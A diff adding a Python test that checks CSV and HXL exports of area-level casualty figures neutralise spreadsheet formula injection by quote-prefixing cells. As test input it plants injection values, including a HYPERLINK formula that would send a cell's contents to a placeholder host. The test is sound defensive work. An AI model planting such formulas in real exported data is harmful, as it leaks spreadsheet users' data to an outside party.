@@ -124,3 +124,25 @@ def test_a_report_sent_while_the_broker_is_down_is_kept_for_the_sweep(
     assert response.status_code == 201 and len(queued) == 1
     assert Report.objects.filter(pk=response.json()["id"]).exists()
     assert StaleFigure.objects.exists()  # for the sweep, once the broker is back
+
+
+def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(api, submitted, areas):
+    """Names come from area files anyone may have edited: `=HYPERLINK(...)` must reach a
+    spreadsheet as text. Numbers stay numbers."""
+    names = {"district": '=HYPERLINK("http://x.example/?"&A1,"Idleb")', "governorate": "+1",
+             "country": "@SUM(1)", "other_district": "-2"}  # fmt: skip
+    for name, area in areas.items():
+        area.name_en = names[name]
+        area.save()
+    json_names = {row["area_name"] for row in api.get(URL).json()["results"]}
+    assert json_names == set(names.values()) - {"-2"}  # the API's JSON keeps them as they are
+    for export in ("csv", "hxl"):
+        content = b"".join(api.get(URL, {"format": export}).streaming_content).decode()
+        rows = list(csv.DictReader(io.StringIO(content)))[(export == "hxl") :]
+        assert {row["area_name"] for row in rows} == {"'" + n for n in json_names}
+        assert {row["killed_high"] for row in rows} == {"8"}
+    from api.views.figures import spreadsheet_safe
+
+    assert spreadsheet_safe(["\tx", "\rx", "ok", "a=b", -3, None]) == [
+        "'\tx", "'\rx", "ok", "a=b", -3, None
+    ]  # fmt: skip
